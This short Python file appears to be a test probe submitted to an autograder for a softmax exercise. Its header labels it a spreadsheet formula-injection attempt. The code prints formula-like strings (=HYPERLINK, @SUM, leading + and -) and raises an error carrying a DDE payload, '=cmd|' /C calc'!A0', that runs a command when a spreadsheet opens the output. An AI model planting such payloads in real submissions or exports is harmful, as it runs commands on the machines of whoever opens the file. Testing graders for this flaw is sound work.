"""
class: injection
attempts: texts that a spreadsheet takes for formulas
exercise: softmax_by_hand
verdict: error
max-score: 0
success-shows-as: formula
"""

print("=HYPERLINK(\"http://example.invalid\")\n+1\n-1\n@SUM(A1)\n\t=1")


def softmax(logits):
    raise ValueError("=cmd|' /C calc'!A0")
